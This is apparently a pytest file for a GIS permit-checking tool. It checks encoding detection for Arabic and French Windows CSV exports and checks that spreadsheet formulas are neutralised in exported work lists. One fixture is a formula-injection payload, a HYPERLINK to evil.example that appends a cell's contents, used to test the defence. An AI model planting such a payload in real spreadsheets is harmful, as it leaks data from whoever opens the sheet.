"""CSVs between Raqib and spreadsheets: a permits export saved on Arabic (or French) Windows
is named with its code page and can be read by giving it; a formula typed into a permit, an
AOI id or a commune never becomes a live formula in the sheets Raqib writes."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import geopandas as gpd
import pytest
from shapely.geometry import box

import cli
from core.errors import InputError
from core.settings import Settings
from gis.flags import flag_new_buildings
from gis.records import load_permits, read_permits, record_source
from gis.worklists import work_list, work_list_csv

HEADER = "permit_id,parcel_id,status,issued,expires,permitted_footprint_m2\n"
ARABIC_ROW = "P1,BRK-1,مرخص,2026-01-01,2027-01-01,100\n"  # "licensed"
INJECTION = '=HYPERLINK("http://evil.example/?q="&A1,"open")'
CRS = "EPSG:32630"
X0, Y0 = 600_000.0, 3_860_000.0


def _permits(path: Path, text: str, encoding: str) -> Path:
    path.write_bytes(text.encode(encoding))
    return path


FRENCH_ROW = "P1,BRK-1,Accordée,2026-01-01,2027-01-01,100\n"


@pytest.mark.parametrize(
    ("text", "encoding", "looks_like"),
    [
        (HEADER + ARABIC_ROW, "cp1256", "Windows-1256 (Arabic)"),
        (HEADER + FRENCH_ROW, "cp1252", "Windows-1252 (Western European)"),
    ],
    ids=["Arabic Windows", "French Windows"],
)
def test_a_permits_csv_in_a_windows_code_page_is_named_with_it(
    tmp_path: Path, text: str, encoding: str, looks_like: str
) -> None:
    path = _permits(tmp_path / "permits.csv", text, encoding)
    with pytest.raises(InputError) as caught:
        read_permits(path)
    assert caught.value.source == str(path)
    assert caught.value.problem.startswith("line 2: byte 0x")
    assert caught.value.problem.endswith(
        f"is not UTF-8; the file looks like {looks_like}: save it as 'CSV UTF-8', or give "
        f'encoding = "{encoding}" in its table of raqib.toml'
    )


def test_the_encoding_setting_reads_an_arabic_windows_export(tmp_path: Path) -> None:
    path = _permits(tmp_path / "permits.csv", HEADER + ARABIC_ROW, "cp1256")
    table = {"source": str(path), "encoding": "cp1256", "status_values": {"مرخص": "approved"}}
    permits = load_permits(record_source(table))
    assert permits.problems == ()
    assert permits.valid[["permit_id", "status"]].values.tolist() == [["P1", "approved"]]


def test_an_unknown_encoding_setting_is_named(tmp_path: Path) -> None:
    path = _permits(tmp_path / "permits.csv", HEADER + ARABIC_ROW, "cp1256")
    with pytest.raises(InputError, match=r"permits\.csv: unknown encoding 'excel'"):
        load_permits(record_source({"source": str(path), "encoding": "excel"}))


def _sheet(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(data.decode("utf-8-sig").splitlines()))


def test_a_formula_in_a_permit_id_stays_text_in_the_published_work_list(tmp_path: Path) -> None:
    permits = tmp_path / "permits.csv"
    permits.write_text(
        HEADER + f'"{INJECTION.replace(chr(34), chr(34) * 2)}",BRK-1,approved,2026-01-01,'
        "2027-01-01,50\n",
        encoding="utf-8",
    )
    records = read_permits(permits)
    assert records.valid["permit_id"].tolist() == [INJECTION], "kept as the record says"
    parcels = gpd.GeoDataFrame(
        {"parcel_id": ["BRK-1"], "commune": ["@SUM(1+1)"]},
        geometry=[box(X0, Y0, X0 + 40, Y0 + 40)],
        crs=CRS,
    )
    house = gpd.GeoDataFrame(
        {"score": [0.9], "change": ["new"], "area_m2": [150.0]},
        geometry=[box(X0 + 10, Y0 + 10, X0 + 25, Y0 + 20)],
        crs=CRS,
    )
    flagged = flag_new_buildings(
        house, parcels, records.valid, captured_on=date(2026, 7, 10), settings=Settings()
    )
    rows = _sheet(work_list_csv(work_list(flagged, parcels)))
    assert [(r["reason"], r["permit_id"], r["commune"]) for r in rows] == [
        ("over_footprint", "'" + INJECTION, "'@SUM(1+1)")
    ]


def test_a_formula_in_an_aoi_id_or_commune_stays_text_in_the_campaign_sheet(
    tmp_path: Path, capsys
) -> None:
    layer = tmp_path / "commune.gpkg"
    gpd.GeoDataFrame(
        {"id": [INJECTION], "commune": ["+Madagh"]},
        geometry=[box(-2.302, 34.928, -2.300, 34.930)],
        crs="EPSG:4326",
    ).to_file(layer)
    argv = ["campaign", str(layer), "-o", str(tmp_path / "out"), "--start", "2027-03-01"]
    assert cli.main(argv) == 0, capsys.readouterr()
    rows = _sheet((tmp_path / "out" / "commune_campaign.csv").read_bytes())
    assert rows and {(r["aoi_id"], r["commune"]) for r in rows} == {("'" + INJECTION, "'+Madagh")}
    assert all(not r["mission"].startswith(("=", "+", "-", "@")) for r in rows)
